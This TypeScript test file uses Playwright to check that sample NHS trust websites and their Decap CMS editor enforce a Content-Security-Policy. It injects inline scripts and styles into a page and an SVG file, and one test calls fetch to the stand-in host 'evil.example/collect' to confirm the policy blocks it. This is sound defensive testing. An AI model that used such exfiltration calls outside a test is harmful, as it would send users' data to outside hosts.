/**
 * The Content-Security-Policy, enforced (not report-only), in Chromium: searching and filtering
 * raise no `securitypolicyviolation` on any sample trust; the policy does stop what it must (an
 * inline script added to a page does not run, a trust's file cannot run script); and the browser
 * editor works under its own policy. That every page of every trust is served with the policy
 * enforced and breaks none of it is checked on the walk over every page in every-page.test.ts.
 * The server sends the headers from src/hosting/security-headers.ts, the same list the host files
 * in each published folder are written from.
 */
import type { ChildProcess } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { writeEditorSite } from '../../scripts/editor/editor-site.ts';
import { serveEditorFolder, startLocalBackend, stopChild } from '../../scripts/editor/editor-server.ts';
import { serveTrustFolder, type RunningServer } from '../../scripts/serve/trust-server.ts';
import { launchBrowser, recordPolicyViolations } from '../support/browser.ts';
import { repoRoot } from '../support/built-sites.ts';
import { sampleSlugs, sampleTrusts, type SampleSlug } from '../support/sample-trusts.ts';

const dist = inject('builtSites');
let browser: Browser;
const servers = {} as Record<SampleSlug, RunningServer>;

beforeAll(async () => {
  browser = await launchBrowser();
  for (const slug of sampleSlugs) servers[slug] = await serveTrustFolder(path.join(dist, slug), sampleTrusts[slug].basePath);
});
afterAll(async () => {
  await browser?.close();
  for (const server of Object.values(servers)) await server?.close();
});

/** A page that records every CSP violation, from the first byte (the listener is added before any page script). */
async function policedPage(): Promise<{ page: Page; violations: string[] }> {
  const page = await browser.newPage();
  const violations: string[] = [];
  await recordPolicyViolations(page, violations);
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  return { page, violations };
}

describe.each(sampleSlugs)('%s', (slug) => {
  it('searching and filtering break no policy', async () => {
    const { page, violations } = await policedPage();
    await page.goto(`${servers[slug].url}search/?q=care`);
    await page.locator('.pf-result-link').first().waitFor();
    await page.locator('details[data-filter-name="version"] summary').click();
    await page.getByLabel('Easy read').check();
    await expect.poll(async () => page.locator('.pf-result-link').count()).toBeGreaterThan(0);
    await page.locator('pagefind-input input').fill('our');
    await expect.poll(async () => (await page.locator('pagefind-summary').textContent()) ?? '').toMatch(/our/i);
    expect(violations).toEqual([]);
    await page.close();
  });
});

describe('the policy stops what it must', () => {
  it('an inline script or style added to a page does not run', async () => {
    const { page, violations } = await policedPage();
    const base = servers.harbourside.url;
    // The page as published, with an injected script and style: served through the same host rules.
    await page.route(`${base}goals/`, async (route) => {
      const response = await route.fetch();
      const html = (await response.text()).replace('</main>', '<script>document.title = "ran"</script><p style="color: red">x</p></main>');
      await route.fulfill({ response, body: html });
    });
    await page.goto(`${base}goals/`);
    expect(await page.title()).not.toBe('ran');
    expect(violations.some((violation) => violation.startsWith('script-src'))).toBe(true);
    expect(violations.some((violation) => violation.startsWith('style-src'))).toBe(true);
    await page.close();
  });

  it("a trust's files are served sandboxed, so a file can never run script on the trust's address", async () => {
    const page = await browser.newPage();
    const logo = readFileSync(path.join(dist, 'harbourside', 'files', 'logo.svg'), 'utf8');
    const base = servers.harbourside.url;
    await page.route(`${base}files/logo.svg`, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: logo.replace('</svg>', '<script>document.title = "ran"</script></svg>') });
    });
    const response = await page.goto(`${base}files/logo.svg`);
    expect(response?.headers()['content-security-policy']).toMatch(/(^|; )sandbox($|;)/);
    expect(await page.title()).not.toBe('ran');
    await page.close();
  });
});

/**
 * The browser editor's own page (Decap CMS, which holds the editors' GitHub sign-in) carries a
 * strict policy in a <meta> element (scripts/editor/editor-site.ts says why each allowance is
 * there): the editor loads, signs in to its local backend, opens a page and shows its preview
 * without breaking it, and the policy is enforced (a request to another host is stopped).
 */
describe('the browser editor', () => {
  let work: string;
  let backend: { child: ChildProcess; proxyUrl: string };
  let editor: { url: string; close: () => Promise<void> };

  beforeAll(async () => {
    work = mkdtempSync(path.join(tmpdir(), 'strategy-editor-csp-'));
    cpSync(path.join(repoRoot, 'content', 'harbourside'), path.join(work, 'repo', 'content', 'harbourside'), { recursive: true });
    backend = await startLocalBackend(path.join(work, 'repo'));
    await writeEditorSite({
      trust: { slug: 'harbourside', name: 'Harbourside Hospitals NHS Foundation Trust', url: 'https://harbourside.example/our-strategy/' },
      out: path.join(work, 'editor'),
      builtTrust: path.join(dist, 'harbourside'),
      backend: { kind: 'local', proxyUrl: backend.proxyUrl },
    });
    editor = await serveEditorFolder(path.join(work, 'editor'));
  });
  afterAll(async () => {
    await editor?.close();
    if (backend) await stopChild(backend.child);
    if (work) rmSync(work, { recursive: true, force: true });
  });

  it('loads, opens a page and its preview with no violation, under a policy that is enforced', async () => {
    const { page, violations } = await policedPage();
    await page.goto(editor.url);
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("script-src 'self' 'unsafe-eval';");
    expect(policy).toContain(`connect-src 'self' blob: ${new URL(backend.proxyUrl).origin};`);
    await page.getByRole('button', { name: 'Login' }).click();
    await page.getByRole('link', { name: 'Goals or focus areas' }).waitFor();
    await page.goto(`${editor.url}#/collections/goals/entries/goals`);
    await expect.poll(() => page.getByRole('textbox', { name: 'Title' }).first().inputValue()).toBe('Our goals');
    // The preview pane is Decap's own frame: it shows the page in the site's styles.
    const preview = page.frameLocator('iframe').first();
    await expect.poll(async () => (await preview.locator('body').textContent()) ?? '').toContain('Our goals');
    expect(violations).toEqual([]);

    // Enforced, not merely declared: the page cannot send anything to another host.
    const sent = await page.evaluate(() =>
      fetch('https://evil.example/collect').then(
        () => 'sent',
        () => 'stopped',
      ),
    );
    expect(sent).toBe('stopped');
    await expect.poll(() => violations.some((violation) => violation.startsWith('connect-src'))).toBe(true);
    await page.close();
  });
});
